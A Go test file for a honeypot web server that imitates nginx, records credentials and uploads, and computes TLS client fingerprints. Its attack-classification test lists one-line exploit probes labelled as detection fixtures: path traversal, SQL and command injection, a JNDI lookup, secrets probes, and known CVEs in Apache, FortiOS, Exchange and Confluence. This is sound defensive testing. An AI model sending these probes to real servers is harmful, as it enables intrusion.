package httpd

import (
	"bufio"
	"bytes"
	"encoding/hex"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/lapwing-defence/lapwing/internal/decoy"
	"github.com/lapwing-defence/lapwing/internal/decoy/access"
	"github.com/lapwing-defence/lapwing/internal/decoy/decoytest"
	"github.com/lapwing-defence/lapwing/internal/decoy/record"
	"github.com/lapwing-defence/lapwing/internal/event"
	"github.com/lapwing-defence/lapwing/internal/persona"
	"github.com/lapwing-defence/lapwing/internal/sharedtest"
)

var pair = sync.OnceValues(func() ([]byte, error) {
	return NewCertificate("web01.example.org", time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC))
})

func target(secure bool) decoytest.Target {
	name := map[bool]string{false: "http", true: "https"}[secure]
	return decoytest.Target{Name: name, Persona: "debian-server", LogType: LogConnection, New: func(tb testing.TB, p *persona.Persona, door *access.Door) decoy.Decoy {
		tb.Helper()
		c := Config{Door: door, Name: p.FQDN(), Changed: p.Boot}
		if secure {
			data, err := pair()
			if err != nil {
				tb.Fatal(err)
			}
			if c.Certificate, err = Certificate(data); err != nil {
				tb.Fatal(err)
			}
		}
		return New(c)
	}}
}

func TestSuite(t *testing.T)    { decoytest.Run(t, target(false)) }
func TestSuiteTLS(t *testing.T) { decoytest.Run(t, target(true)) }

func talk(t *testing.T, b *decoytest.Bench, text string) string {
	t.Helper()
	c := b.Dial(t)
	io.WriteString(c, text)
	c.(*net.TCPConn).CloseWrite()
	got, err := io.ReadAll(c)
	if err != nil {
		t.Fatal(err)
	}
	return string(got)
}

var date = regexp.MustCompile(`Date: [^\r]*\r\n`)

// TestAsNginx holds what Debian 12's nginx 1.22.1 answers to these bytes.
func TestAsNginx(t *testing.T) {
	b := target(false).Start(t, decoytest.Options{})
	page := func(line, title, length, persist string, after ...string) string {
		return "HTTP/1.1 " + line + "\r\nServer: nginx/1.22.1\r\nContent-Type: text/html\r\nContent-Length: " + length + "\r\nConnection: " + persist + "\r\n" +
			strings.Join(after, "") + "\r\n<html>\r\n<head><title>" + title + "</title></head>\r\n<body>\r\n<center><h1>" + title + "</h1></center>\r\n<hr><center>nginx/1.22.1</center>\r\n</body>\r\n</html>\r\n"
	}
	bad := page("400 Bad Request", "400 Bad Request", "157", "close")
	for in, want := range map[string]string{
		"GET /nosuch HTTP/1.1\r\nHost: x\r\n\r\n":                        page("404 Not Found", "404 Not Found", "153", "keep-alive"),
		"GET /backup/ HTTP/1.1\r\nHost: x\r\n\r\n":                       page("401 Unauthorized", "401 Authorization Required", "179", "keep-alive", "WWW-Authenticate: Basic realm=\"Restricted\"\r\n"),
		"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\n\r\nabc":     page("405 Not Allowed", "405 Not Allowed", "157", "keep-alive"),
		"FOO / HTTP/1.1\r\nHost: x\r\n\r\n":                              page("405 Not Allowed", "405 Not Allowed", "157", "keep-alive"),
		"TRACE / HTTP/1.1\r\nHost: x\r\n\r\n":                            page("405 Not Allowed", "405 Not Allowed", "157", "close"),
		"get / HTTP/1.1\r\nHost: x\r\n\r\n":                              bad,
		"GET / HTTP/1.1\r\n\r\n":                                         bad,
		"CONNECT a:1 HTTP/1.1\r\nHost: x\r\n\r\n":                        bad,
		"OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n":                          bad,
		"XX\r\n\r\n":                                                     bad,
		"GET /../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n":              bad,
		"GET /%00 HTTP/1.1\r\nHost: x\r\n\r\n":                           bad,
		"GET / HTTP/2.0\r\n\r\n":                                         page("505 HTTP Version Not Supported", "505 HTTP Version Not Supported", "187", "close"),
		"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 3000000\r\n\r\n":  page("413 Request Entity Too Large", "413 Request Entity Too Large", "183", "close"),
		"GET / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: foo\r\n\r\n":    page("501 Not Implemented", "501 Not Implemented", "165", "close"),
		"GET /" + strings.Repeat("a", 9000) + " HTTP/1.1\r\nHost: x\r\n": page("414 Request-URI Too Large", "414 Request-URI Too Large", "177", "close"),
	} {
		got := date.ReplaceAllString(talk(t, b, in), "")
		if got != want {
			t.Errorf("%.60q\n got %q\nwant %q", in, got, want)
		}
	}
	if got := talk(t, b, "GET /\r\n"); !strings.HasPrefix(got, "<!DOCTYPE html>") {
		t.Errorf("HTTP/0.9 %.80q", got)
	}
	got := talk(t, b, "GET /robots.txt HTTP/1.1\r\nHost: x\r\n\r\n")
	order := regexp.MustCompile(`(?m)^([A-Za-z-]+): `).FindAllString(got[:strings.Index(got, "\r\n\r\n")], -1)
	if want := []string{"Server: ", "Date: ", "Content-Type: ", "Content-Length: ", "Last-Modified: ", "Connection: ", "ETag: ", "Accept-Ranges: "}; !slices.Equal(order, want) {
		t.Errorf("headers in the order %q", order)
	}
}

func TestPlainToTLS(t *testing.T) {
	b := target(true).Start(t, decoytest.Options{})
	if got := talk(t, b, "GET / HTTP/1.1\r\nHost: x\r\n\r\n"); !strings.Contains(got, "Content-Length: 255\r\n") || !strings.Contains(got, "The plain HTTP request was sent to HTTPS port") {
		t.Errorf("%q", got)
	}
}

func TestCredentials(t *testing.T) {
	b := target(false).Start(t, decoytest.Options{})
	talk(t, b, "GET /git/tools.git/info/refs HTTP/1.1\r\nHost: x\r\nAuthorization: Basic c3ZjOnMzY3JldA==\r\n\r\n"+
		"GET /-/whoami HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer npm_abc\r\n\r\n"+
		"POST /login HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 31\r\n\r\nusername=anna&password=Sommer25"+
		"GET / HTTP/1.1\r\nHost: x\r\nAuthorization: AWS4-HMAC-SHA256 Credential=AKIAEXAMPLE/20261125/eu-central-1/sts/aws4_request, SignedHeaders=host, Signature=00\r\n\r\n")
	got := [][3]string{}
	for _, e := range b.Wait(t, event.ActionLogin, 4) {
		pw, _ := e.Get(record.PasswordField)
		how, _ := e.Get("lapwing.login.method")
		got = append(got, [3]string{how.Text(), e.User, pw.Text()})
	}
	want := [][3]string{{"basic", "svc", "s3cret"}, {"bearer", "", "npm_abc"}, {"form", "anna", "Sommer25"}, {"aws-sigv4", "AKIAEXAMPLE", ""}}
	if !slices.Equal(got, want) {
		t.Errorf("logins %q", got)
	}
	b.Stop()
	for _, e := range b.Rec.Events("") {
		for _, f := range e.Extra {
			if f.Name != record.PasswordField && (strings.Contains(f.Value.Text(), "s3cret") || strings.Contains(f.Value.Text(), "Sommer25") || strings.Contains(f.Value.Text(), "npm_abc")) {
				t.Errorf("%s holds a password: %s", f.Name, f.Value.Text())
			}
		}
	}
}

func TestAttacksAreNamed(t *testing.T) {
	for in, want := range map[string]string{
		"GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1":                                              "path traversal, CVE-2021-41773 (Apache)",
		"GET /item?id=1%20UNION%20SELECT%20user,2 HTTP/1.1":                                   "sql injection",
		"GET /?q=${jndi:ldap://198.51.100.9/a} HTTP/1.1":                                      "jndi lookup",
		"GET /?x=%7B%7B7*7%7D%7D HTTP/1.1":                                                    "template injection",
		"GET /ping?h=127.0.0.1;id HTTP/1.1":                                                   "command injection",
		"GET /.env HTTP/1.1":                                                                  "secrets probe",
		"GET /.git/config HTTP/1.1":                                                           "secrets probe",
		"GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1":                    "CVE-2017-9841 (PHPUnit), admin page probe",
		"GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1": "path traversal, CVE-2018-13379 (FortiOS)",
		"GET /autodiscover/autodiscover.json?a@x.example/mapi/nspi HTTP/1.1":                  "CVE-2021-34473 (Exchange)",
		"GET /%24%7B%40java.lang.Runtime%40getRuntime().exec(%22x%22)%7D/ HTTP/1.1":           "deserialisation, CVE-2022-26134 (Confluence)",
		"GET / HTTP/1.1": "",
		"GET /news/2026/a-cat-and-a-dog.html?utm_source=mail&ref=home HTTP/1.1": "",
		"GET /search?q=select+a+plan+from+our+union HTTP/1.1":                   "",
		"GET /login?next=/intern/reports HTTP/1.1":                              "",
		"GET /wiki/index.php?title=Special:Search&search=sleep%20well HTTP/1.1": "",
		"GET /item?id=7&name=O%27Brien HTTP/1.1":                                "",
		"GET /media/logo.png HTTP/1.1":                                          "",
		"GET /api/v1/namespaces/default/pods?limit=500 HTTP/1.1":                "",
	} {
		r, err := readRequest(bufio.NewReaderSize(strings.NewReader(in+"\r\nHost: x\r\n\r\n"), maxLine))
		if err != nil {
			t.Errorf("%s: %v", in, err)
			continue
		}
		if got := strings.Join(r.attacks(), ", "); got != want {
			t.Errorf("%s\n got %q\nwant %q", in, got, want)
		}
	}
}

// TestUploadsAreCaptured: what somebody leaves is kept, a login form is not.
func TestUploadsAreCaptured(t *testing.T) {
	b := target(false).Start(t, decoytest.Options{})
	talk(t, b, "PUT /webdav/x.jsp HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n6\r\nMARKER\r\n3\r\n-up\r\n0\r\n\r\n")
	e := b.Wait(t, event.ActionFileCaptured, 1)[0]
	if string(b.Rec.File(e.SHA256)) != "MARKER-up" || e.Path != "/webdav/x.jsp" {
		t.Errorf("%s: %q", e.Path, b.Rec.File(e.SHA256))
	}
	r := b.Wait(t, event.ActionRequest, 1)[0]
	if r.Depth != event.DepthAct || r.URL != "/webdav/x.jsp" {
		t.Errorf("%+v", r)
	}
}

// TestCurl runs the real client over all that it can speak.
func TestCurl(t *testing.T) {
	curl := sharedtest.Program(t, "curl")
	plain, secure := target(false).Start(t, decoytest.Options{}), target(true).Start(t, decoytest.Options{})
	run := func(args ...string) string {
		out, err := exec.CommandContext(t.Context(), curl, append([]string{"-sk", "-i", "--noproxy", "*"}, args...)...).CombinedOutput()
		if err != nil {
			t.Fatalf("%v: %v\n%s", args, err, out)
		}
		return string(out)
	}
	if got := run("http://" + plain.Addr + "/"); !strings.Contains(got, "Staff access") {
		t.Errorf("%q", got)
	}
	if got := run("--http2", "https://"+secure.Addr+"/"); !strings.HasPrefix(got, "HTTP/2 200") || !strings.Contains(got, "Staff access") {
		t.Errorf("%q", got)
	}
	if got := run("--http2", "-u", "root:admin", "https://"+secure.Addr+"/backup/"); !strings.Contains(got, "Index of /backup/") {
		t.Errorf("%q", got)
	}
	if got := run("--http1.1", "https://"+secure.Addr+"/nosuch"); !strings.HasPrefix(got, "HTTP/1.1 404 Not Found\r\nServer: nginx/1.22.1\r\n") {
		t.Errorf("%q", got)
	}
	body := filepath.Join(t.TempDir(), "body")
	if err := os.WriteFile(body, bytes.Repeat([]byte("0123456789abcdef"), 20_000), 0o600); err != nil {
		t.Fatal(err)
	}
	run("--http2", "-T", body, "https://"+secure.Addr+"/files/x.bin")
	if e := secure.Wait(t, event.ActionFileCaptured, 1)[0]; e.Size != 320_000 {
		t.Errorf("%d bytes were captured", e.Size)
	}
	id := secure.Wait(t, event.ActionClientIdentified, 1)[0]
	ja4, _ := id.Get("tls.client.ja4")
	if !regexp.MustCompile(`^t1[23]i\d{4}h2_[0-9a-f]{12}_[0-9a-f]{12}$`).MatchString(ja4.Text()) {
		t.Errorf("JA4 of curl %q", ja4.Text())
	}
}

// TestFingerprints: the example that the description of JA4 gives, a ClientHello
// of Chrome, is built from its own lists.
func TestFingerprints(t *testing.T) {
	h := &hello{
		legacy: 0x0303, versions: []uint16{0x0304, 0x0303}, hasName: true, alpn: []string{"h2", "http/1.1"},
		ciphers:    []uint16{0x1301, 0x1302, 0x1303, 0xc02b, 0xc02f, 0xc02c, 0xc030, 0xcca9, 0xcca8, 0xc013, 0xc014, 0x009c, 0x009d, 0x002f, 0x0035},
		extensions: []uint16{0x001b, 0x0000, 0x0033, 0x0010, 0x4469, 0x0017, 0x002d, 0x000d, 0x0005, 0x0023, 0x0012, 0x002b, 0xff01, 0x000b, 0x000a, 0x0015},
		signatures: []uint16{0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501, 0x0806, 0x0601},
	}
	if got := h.ja4(); got != "t13d1516h2_8daaf6152771_e5627efa2ab1" {
		t.Errorf("JA4 %s", got)
	}
}

// helloBytes is a ClientHello as it goes over the wire, TLS 1.2 without extensions.
const helloBytes = "16030100330100002f0303000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f000008c02fc0300a0a009c0100"

func FuzzHello(f *testing.F) {
	b, err := hex.DecodeString(helloBytes)
	if err != nil {
		f.Fatal(err)
	}
	f.Add(b[5:])
	f.Fuzz(func(t *testing.T, data []byte) {
		h, ok := parseHello(data)
		if ok && (len(h.ja3()) != 32 || len(h.ja4()) < 36) {
			t.Errorf("%q, %q", h.ja3(), h.ja4())
		}
	})
}

func FuzzRequest(f *testing.F) {
	for _, s := range []string{"GET / HTTP/1.1\r\nHost: x\r\n\r\n", "POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n", "GET /\r\n", "PUT /%41/../%2e%2e HTTP/1.0\r\nContent-Length: 3\r\n\r\nabc"} {
		f.Add([]byte(s))
	}
	s := &site{host: "h"}
	f.Fuzz(func(t *testing.T, data []byte) {
		in := bufio.NewReaderSize(bytes.NewReader(data), maxLine)
		for {
			r, err := readRequest(in)
			if err == nil {
				err = r.readBody(in)
			}
			if err != nil {
				return
			}
			if len(r.body) > len(data) {
				t.Fatalf("a body of %d bytes out of %d", len(r.body), len(data))
			}
			creds := r.credentials()
			r.attacks()
			if got := s.answer(r, false, len(creds) > 0).bytes(r, time.Unix(0, 0), true); len(got) == 0 {
				t.Error("no answer")
			}
			if j := r.ja4h(); r.proto != "" && len(j) != 12+3*13 {
				t.Errorf("JA4H %q", j)
			}
		}
	})
}
